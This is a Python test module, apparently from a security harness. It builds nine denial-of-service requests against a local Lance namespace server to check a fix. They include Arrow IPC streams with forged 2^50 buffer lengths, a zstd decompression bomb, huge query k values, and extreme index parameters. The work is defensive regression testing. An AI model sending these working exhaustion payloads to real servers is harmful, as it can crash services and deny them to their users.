"""The data-plane attacks of issue 27, for ``server_attacks.py``: one hostile request each.

Each attack sends its request (or a few) on raw connections and reports how the server
answered; the harness around it measures the server's RSS and CPU and what a normal client
saw meanwhile, and restarts the server when an attack killed it (the report's answers then
say ``connection closed without an answer``). The payloads are built here, from a small
valid request patched where the attack needs it, so nothing depends on the server's code:
the same attacks run against the tree before the fix (``--source``) and after.

* ``ipc-length``: an InsertIntoTable Arrow stream whose data buffer length says 2^50 (8 KB);
* ``ipc-zstd-prefix``: a zstd-compressed stream whose uncompressed-length prefix says 2^40;
* ``ipc-zstd-bomb``: 32 zstd batches of 64 Mi zero int64 each (16 GiB decoded) in < 1 MiB;
* ``filter-chain``: QueryTable ``filter`` ``id + id + ... > 0`` with 700 terms (3.5 KB);
* ``aliases``: QueryTable naming ``vector`` 2,000 times in ``column_aliases``, k = 20,000;
* ``huge-k``: QueryTable with k = 10^9;
* ``repeat-predicate``: CountTableRows ``length(repeat(s, 8000)) > 0`` (27 bytes);
* ``hnsw``: CreateTableIndex IVF_HNSW_SQ with m = ef_construction = 2^31 - 1;
* ``add-columns``: AlterTableAddColumns ``repeat(s, 1000)`` (67 bytes).
"""

from __future__ import annotations

import asyncio
import json
import struct
from collections.abc import Awaitable, Callable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

    from server_attacks import Attack

#: rows of the vector table the query attacks aim at
VECTOR_ROWS = 20_000
DIM = 8


def make_data_tables(root: Path) -> None:
    """``ns$v``: id, a short string and an 8-float vector per row, next to ``ns$t``."""
    import lance
    import numpy as np
    import pyarrow as pa

    import lance_namespace_async as lna

    ids = pa.array(np.arange(VECTOR_ROWS, dtype=np.int64))
    strings = pa.array([f"row{i:06d}" for i in range(VECTOR_ROWS)])
    flat = pa.array(np.random.default_rng(7).random(VECTOR_ROWS * DIM, dtype=np.float32))
    vectors = pa.FixedSizeListArray.from_arrays(flat, DIM)
    table = pa.table({"id": ids, "s": strings, "vector": vectors})
    with lna.connect_sync("dir", {"root": str(root)}) as ns:
        lance.write_dataset(table, ns.declare_table({"id": ["ns", "v"]}).location)


def _stream(table: Any, compression: str | None = None) -> bytes:
    import pyarrow as pa

    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression=compression)
    with pa.ipc.new_stream(sink, table.schema, options=options) as writer:
        writer.write_table(table)
    return bytes(sink.getvalue().to_pybytes())


def _patched(data: bytes, old: int, new: int, start: int = 0) -> bytes:
    """``data`` with the first little-endian int64 ``old`` at or after ``start`` set to ``new``."""
    at = data.index(struct.pack("<q", old), start)
    return data[:at] + struct.pack("<q", new) + data[at + 8 :]


def _id_rows(rows: int) -> Any:
    import numpy as np
    import pyarrow as pa

    return pa.table(
        {
            "id": pa.array(np.arange(rows, dtype=np.int64)),
            "s": pa.array(["x"] * rows),
            "vector": pa.FixedSizeListArray.from_arrays(
                pa.array(np.zeros(rows * DIM, dtype=np.float32)), DIM
            ),
        }
    )


def ipc_length_payload() -> bytes:
    """1,000 rows; the metadata's length of the 8,000-byte id buffer patched to 2^50."""
    data = _stream(_id_rows(1000))
    schema_end = data.index(b"\xff\xff\xff\xff", 8)  # the record batch message follows
    return _patched(data, 8000, 2**50, schema_end)


def ipc_zstd_prefix_payload() -> bytes:
    """1,000 rows, zstd; the id buffer's uncompressed-length prefix patched to 2^40."""
    data = _stream(_id_rows(1000), "zstd")
    schema_end = data.index(b"\xff\xff\xff\xff", 8)
    batch_meta = int.from_bytes(data[schema_end + 4 : schema_end + 8], "little")
    body = schema_end + 8 + batch_meta
    return _patched(data, 8000, 2**40, body)


def ipc_zstd_bomb_payload() -> bytes:
    """32 batches of 64 Mi zero int64 (512 MiB each, 16 GiB in all), zstd: under 1 MiB."""
    import numpy as np
    import pyarrow as pa

    zeros = pa.table({"id": pa.array(np.zeros(64 * 2**20, dtype=np.int64))})
    one = _stream(zeros, "zstd")
    schema_end = one.index(b"\xff\xff\xff\xff", 8)
    end = len(one) - 8  # the end-of-stream marker
    return one[:schema_end] + one[schema_end:end] * 32 + one[end:]


def _post(port: int, path: str, body: bytes, content_type: str) -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


def _json(port: int, path: str, body: dict[str, Any]) -> bytes:
    return _post(port, path, json.dumps(body).encode(), "application/json")


def _arrow(port: int, path: str, body: bytes) -> bytes:
    return _post(port, path, body, "application/vnd.apache.arrow.stream")


def _query(**fields: Any) -> dict[str, Any]:
    return {"vector": {"single_vector": [0.5] * DIM}, "k": 10, **fields}


def requests(port: int, name: str) -> list[bytes]:
    """The attack ``name``'s raw request(s)."""
    arrow = {
        "ipc-length": ipc_length_payload,
        "ipc-zstd-prefix": ipc_zstd_prefix_payload,
        "ipc-zstd-bomb": ipc_zstd_bomb_payload,
    }
    if name in arrow:
        return [_arrow(port, "/v1/table/ns%24v/insert", arrow[name]())]
    chain = "id" + " + id" * 700 + " > 0"
    return {
        "filter-chain": [_json(port, "/v1/table/ns%24v/query", _query(filter=chain))],
        "aliases": [
            _json(
                port,
                "/v1/table/ns%24v/query",
                _query(
                    k=20_000,
                    columns={"column_aliases": {f"a{i}": "vector" for i in range(2000)}},
                ),
            )
        ],
        "huge-k": [_json(port, "/v1/table/ns%24v/query", _query(k=10**9))],
        "repeat-predicate": [
            _json(port, "/v1/table/ns%24v/count_rows", {"predicate": "length(repeat(s,8000))>0"})
        ],
        "hnsw": [
            _json(
                port,
                "/v1/table/ns%24v/create_index",
                {
                    "column": "vector",
                    "index_type": "IVF_HNSW_SQ",
                    "num_partitions": 1,
                    "m": 2**31 - 1,
                    "ef_construction": 2**31 - 1,
                },
            )
        ],
        "add-columns": [
            _json(
                port,
                "/v1/table/ns%24v/add_columns",
                {"new_columns": [{"name": "big", "expression": "repeat(s, 1000)"}]},
            )
        ],
    }[name]


def data_attacks(
    hold: Callable[..., Awaitable[Any]], attack_type: type[Attack]
) -> dict[str, Callable[[int, float], Awaitable[Attack]]]:
    """The attacks as ``server_attacks.ATTACKS`` entries, built on its ``hold``."""

    def make(name: str) -> Callable[[int, float], Awaitable[Attack]]:
        async def attack(port: int, seconds: float) -> Attack:
            payloads = await asyncio.to_thread(requests, port, name)
            sent = [
                hold(port, seconds, payload, lambda _i: None, 0.2, len(payload) + 1)
                for payload in payloads
            ]
            return attack_type(list(await asyncio.gather(*sent)), note="one request")

        return attack

    return {name: make(name) for name in NAMES}


#: the attacks, in the order they run
NAMES = (
    "ipc-length",
    "ipc-zstd-prefix",
    "ipc-zstd-bomb",
    "filter-chain",
    "aliases",
    "huge-k",
    "repeat-predicate",
    "hnsw",
    "add-columns",
)
